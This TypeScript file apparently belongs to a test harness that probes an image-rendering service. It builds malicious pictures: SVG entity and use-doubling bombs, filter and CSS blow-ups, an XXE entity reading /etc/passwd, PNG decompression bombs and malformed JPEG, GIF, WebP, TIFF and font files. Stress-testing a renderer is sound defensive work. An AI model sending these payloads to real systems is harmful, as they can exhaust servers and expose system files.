// Pictures in the data that are small as files and large, slow or broken for whoever draws them.
import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { zlibBomb } from "../../support/zlib-bomb.ts";
import type { Attack } from "../attack.ts";
import type { AttackerPlan } from "../target.ts";

function address(type: string, bytes: Uint8Array | string): string {
  return `data:image/${type};base64,${Buffer.from(bytes).toString("base64")}`;
}

function svg(content: string, side = 1000): string {
  return (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
    `width="${side}" height="${side}" viewBox="0 0 ${side} ${side}">${content}</svg>`
  );
}

/** Parts that use the one before twice. */
function doublings(count: number): string {
  const parts = Array.from({ length: count }, (_, at) => {
    return `<g id="a${at + 1}"><use href="#a${at}"/><use href="#a${at}"/></g>`;
  });
  return parts.join("");
}

function sheet(rule: string, count: number): string {
  return `<style>${rule.repeat(count)}</style>`;
}

const RECTS = '<rect width="1" height="1"/>'.repeat(9_000);

const ENTITIES = "abcdef"
  .split("")
  .map((name, at) => `<!ENTITY ${name} "${at === 0 ? "aaaaaaaaaa" : `&${"abcdef".charAt(at - 1)};`.repeat(10)}">`)
  .join("");

const BLUR = '<filter id="f" x="-10" y="-10" width="30" height="30"><feGaussianBlur stdDeviation="5000"/></filter>';

const SVGS = {
  "a blur doubled ten times": svg(
    `<defs>${BLUR}<rect id="a0" width="900" height="900" filter="url(#f)"/>${doublings(10)}</defs><use href="#a10"/>`,
  ),
  "500 blurs": svg(BLUR + '<rect width="900" height="900" filter="url(#f)"/>'.repeat(500)),
  "300 turbulences": svg(
    '<filter id="f"><feTurbulence baseFrequency="0.9" numOctaves="8"/></filter>' +
      '<rect width="1000" height="1000" filter="url(#f)"/>'.repeat(300),
  ),
  "a chain of 800 filters": svg(
    `<filter id="f">${'<feGaussianBlur stdDeviation="100"/><feDisplacementMap scale="50" in2="SourceGraphic"/>'.repeat(
      400,
    )}</filter><rect width="1000" height="1000" filter="url(#f)"/>`,
  ),
  "a light over a blur doubled eight times": svg(
    '<defs><filter id="f"><feGaussianBlur stdDeviation="20"/><feSpecularLighting><fePointLight x="5" y="5" z="9"/>' +
      `</feSpecularLighting></filter><rect id="a0" width="900" height="900" filter="url(#f)"/>${doublings(8)}</defs>` +
      '<use href="#a8"/>',
  ),
  "uses doubled thirty times": svg(
    `<defs><g id="a0"><rect width="1" height="1"/></g>${doublings(30)}</defs><use href="#a30"/>`,
  ),
  "masks of masks": svg(
    `${Array.from({ length: 300 }, (_, at) => {
      const mask = at === 0 ? "" : `mask="url(#m${at - 1})"`;
      return `<mask id="m${at}"><rect width="1000" height="1000" fill="white" ${mask}/></mask>`;
    }).join("")}<rect width="1000" height="1000" mask="url(#m299)"/>`,
  ),
  "a pattern of thousandths": svg(
    '<pattern id="p" width="0.001" height="0.001" patternUnits="userSpaceOnUse"><rect width="1" height="1"/>' +
      '</pattern><rect width="1000" height="1000" fill="url(#p)"/>',
  ),
  "a path of dashes": svg(
    '<path fill="none" stroke="red" stroke-width="0.001" stroke-dasharray="0.0001" d="M0 0 L1000 1000 ' +
      `${"L0 1000 L1000 0 ".repeat(5000)}"/>`,
  ),
  "rules that are about each element": svg(`${sheet("rect{fill:red}", 9_000)}${RECTS}`),
  "selectors of many parts": svg(
    `${sheet(`${"g ".repeat(18)}rect{fill:red}`, 500)}${"<g>".repeat(50)}${RECTS}${"</g>".repeat(50)}`,
  ),
  "rules that count": svg(`${sheet("rect:nth-last-of-type(7n+1){fill:red}", 500)}${RECTS}`),
  "variables of variables": svg(
    `<g style="--a0:9;${Array.from({ length: 60 }, (_, at) => `--a${at + 1}:var(--a${at}) var(--a${at})`).join(";")};` +
      `stroke-width:var(--a60)">${RECTS}</g>`,
  ),
  "19,000 nested groups": svg(`${"<g>".repeat(19_000)}<rect width="1" height="1"/>${"</g>".repeat(19_000)}`),
  "sides of 1e300": svg('<rect width="1e300" height="1e300"/><circle r="1e308"/>', 1e9),
  "3,000 rules for 3,000 shapes": svg(
    `<style>${Array.from({ length: 3000 }, (_, at) => `g g rect.a${at}{fill:red}`).join("")}</style><g><g>` +
      `${'<rect class="a1" width="1" height="1"/>'.repeat(3000)}</g></g>`,
  ),
  "a broken style sheet": svg(
    `<style>${"/*".repeat(50_000)}${"{".repeat(50_000)}</style><rect width="1" height="1" style="${"fill:".repeat(
      20_000,
    )}"/>`,
  ),
  "50,000 turns": svg(`<rect width="1" height="1" transform="${"rotate(1) ".repeat(50_000)}"/>`),
  "entities of entities": `<!DOCTYPE svg [${ENTITIES}]>${svg("<text>&f;</text>")}`,
  "a file of the machine": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
  "gradients of gradients": svg(
    Array.from({ length: 5_000 }, (_, at) => `<linearGradient id="g${at}" href="#g${at + 1}"/>`).join("") +
      '<rect width="9" height="9" fill="url(#g0)"/>',
  ),
  "markers on ten thousand corners": svg(
    '<marker id="m" markerWidth="9" markerHeight="9"><rect width="9" height="9"/></marker>' +
      `<path marker-mid="url(#m)" d="M0 0${" l1 1 l-1 1".repeat(5_000)}"/>`,
  ),
} as const satisfies Record<string, string>;

function svgAttack(name: keyof typeof SVGS, times: number, plan: AttackerPlan): Attack {
  return {
    name: `SVG${times === 1 ? "" : ` × ${times}`}: ${name}`,
    async run(target) {
      const attacker = await target.attacker(plan);
      const picture = address("svg+xml", SVGS[name]);
      return Promise.all(Array.from({ length: times }, (_, at) => attacker.render({ note: String(at), picture })));
    },
  };
}

const CRC_TABLE = Array.from({ length: 256 }, (_, at) => {
  let value = at;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});

function crc(bytes: Uint8Array): number {
  let value = 0xffffffff;
  for (const byte of bytes) value = (CRC_TABLE[(value ^ byte) & 255] ?? 0) ^ (value >>> 8);
  return (value ^ 0xffffffff) >>> 0;
}

function chunk(type: string, content: Uint8Array): Buffer {
  const bytes = Buffer.alloc(12 + content.length);
  bytes.writeUInt32BE(content.length);
  bytes.write(type, 4, "latin1");
  bytes.set(content, 8);
  bytes.writeUInt32BE(crc(bytes.subarray(4, 8 + content.length)), 8 + content.length);
  return bytes;
}

interface PngLook {
  readonly side: number;
  readonly depth: number;
  readonly colorType: number;
  readonly interlace: number;
}

function png({ side, depth, colorType, interlace }: PngLook, idat: Uint8Array, extra: Uint8Array): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side);
  head.writeUInt32BE(side, 4);
  head.set([depth, colorType, 0, 0, interlace], 8);
  const signature = Buffer.from("89504e470d0a1a0a", "hex");
  return Buffer.concat([signature, chunk("IHDR", head), extra, chunk("IDAT", idat), chunk("IEND", Buffer.alloc(0))]);
}

/** A picture of noise, in colour, whose bytes nothing makes fewer of; it takes three times its side squared. */
export function noisePicture(side: number): string {
  const rows = randomBytes(side * (1 + 3 * side));
  for (let row = 0; row < side; row += 1) rows[row * (1 + 3 * side)] = 0;
  return address("png", png({ side, depth: 8, colorType: 2, interlace: 0 }, deflateSync(rows), NOTHING));
}

const SMALL: PngLook = { side: 1, depth: 8, colorType: 0, interlace: 0 };
const NOTHING = Buffer.alloc(0);
const ONE_PIXEL = deflateSync(Buffer.from([0, 0]));

/** A chunk with a name, the way it is packed, and what is packed so. */
function named(type: string, packed: Uint8Array): Buffer {
  return chunk(type, Buffer.concat([Buffer.from("icc\0\0", "latin1"), packed]));
}

/** A segment of a JPEG file. */
function segment(marker: number, content: Uint8Array): Buffer {
  const head = Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255]);
  return Buffer.concat([head, content]);
}

/** A JPEG that claims a size and has next to nothing of it. */
function jpeg(side: number, { isProgressive = false, scans = 1, extra = NOTHING } = {}): Buffer {
  const frame = Buffer.from([8, side >> 8, side & 255, side >> 8, side & 255, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]);
  const quantities = Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)]);
  const codes = (kind: number) => Buffer.from([kind, 0, 1, ...Array<number>(14).fill(0), 0]);
  const scan = Buffer.concat([
    segment(0xda, Buffer.from([3, 1, 0, 2, 0, 3, 0, 0, isProgressive ? 0 : 63, 0])),
    Buffer.alloc(16),
  ]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    extra,
    segment(0xdb, quantities),
    segment(isProgressive ? 0xc2 : 0xc0, frame),
    segment(0xc4, codes(0x00)),
    segment(0xc4, codes(0x10)),
    ...Array<Buffer>(scans).fill(scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** Parts of a colour profile that say they are 255 of 255 and go on. */
const PROFILE_PARTS = Buffer.concat(
  Array.from({ length: 40 }, (_, at) => {
    return segment(
      0xe2,
      Buffer.concat([Buffer.from("ICC_PROFILE\0", "latin1"), Buffer.from([at, 255]), Buffer.alloc(60_000)]),
    );
  }),
);

/** A TIFF whose directory leads to itself. */
const TIFF_LOOP = Buffer.from("49492a000800000000000800000000000000", "hex");

/** A WebP that claims 16,383 × 16,383 pixels, lossless. */
const WEBP = Buffer.concat([Buffer.from("RIFF\x24\0\0\0WEBPVP8L\x18\0\0\0\x2f", "latin1"), Buffer.alloc(23, 255)]);

/** A font of nothing but tables that overlap, as an address of a picture. */
const FONT = Buffer.concat([Buffer.from("00010000fffff0000000", "hex"), Buffer.alloc(60_000, 255)]);

const GIF = Buffer.concat([Buffer.from("GIF89a\xff\xff\xff\xff\xf7\0\0", "latin1"), Buffer.alloc(1_000, 44)]);

const FILES = {
  "PNG of 40 million pixels of 16 bits": () =>
    address("png", png({ side: 6_324, depth: 16, colorType: 6, interlace: 0 }, zlibBomb(306), NOTHING)),
  "PNG of two billion pixels": () =>
    address("png", png({ side: 46_340, depth: 8, colorType: 6, interlace: 0 }, zlibBomb(64), NOTHING)),
  "PNG interlaced, of 40 million pixels": () =>
    address("png", png({ side: 6_324, depth: 8, colorType: 6, interlace: 1 }, zlibBomb(154), NOTHING)),
  "PNG of one pixel that unpacks to a gigabyte": () => address("png", png(SMALL, zlibBomb(1_024), NOTHING)),
  "PNG with a colour profile of a gigabyte": () =>
    address("png", png(SMALL, ONE_PIXEL, named("iCCP", zlibBomb(1_024)))),
  "PNG with a text of a gigabyte": () => address("png", png(SMALL, ONE_PIXEL, named("zTXt", zlibBomb(1_024)))),
  "PNG of 100,000 chunks": () =>
    address(
      "png",
      png(SMALL, ONE_PIXEL, Buffer.concat(Array<Buffer>(100_000).fill(chunk("tEXt", Buffer.from("a\0b"))))),
    ),
  "JPEG of four billion pixels": () => address("jpeg", jpeg(65_500)),
  "JPEG of 36 million pixels": () => address("jpeg", jpeg(6_000)),
  "JPEG progressive, of 500 scans": () => address("jpeg", jpeg(4_000, { isProgressive: true, scans: 500 })),
  "JPEG with a broken colour profile": () => address("jpeg", jpeg(100, { extra: PROFILE_PARTS })),
  "WebP of 268 million pixels": () => address("webp", WEBP),
  "TIFF that leads to itself": () => address("tiff", TIFF_LOOP),
  "GIF of four billion pixels": () => address("gif", GIF),
  "a font as a picture": () => address("png", FONT),
} as const satisfies Record<string, () => string>;

function fileAttack(name: keyof typeof FILES): Attack {
  return {
    name: `picture: ${name}`,
    async run(target) {
      const attacker = await target.attacker("starter");
      return [await attacker.render({ picture: FILES[name]() })];
    },
  };
}

/** Different pictures of each 40 million pixels in one payload: their pixels count together. */
const MANY_PNGS: Attack = {
  name: "picture: ten PNG of 40 million pixels of 16 bits",
  async run(target) {
    const attacker = await target.attacker("starter");
    const look = { side: 6_324, depth: 16, colorType: 6, interlace: 0 };
    const idat = zlibBomb(306);
    const pictures = Array.from({ length: 10 }, (_, at) => ({
      i: address("png", png(look, idat, chunk("tEXt", Buffer.from(`a\0${at}`)))),
    }));
    return [await attacker.render({ pictures })];
  },
};

const SVG_NAMES = Object.keys(SVGS) as readonly (keyof typeof SVGS)[];
const FILE_NAMES = Object.keys(FILES) as readonly (keyof typeof FILES)[];

export const PICTURE_ATTACKS: readonly Attack[] = [
  svgAttack("a blur doubled ten times", 2, "starter"),
  svgAttack("500 blurs", 4, "business"),
  ...SVG_NAMES.filter((name) => name !== "a blur doubled ten times").map((name) => svgAttack(name, 1, "starter")),
  ...FILE_NAMES.map(fileAttack),
  MANY_PNGS,
];
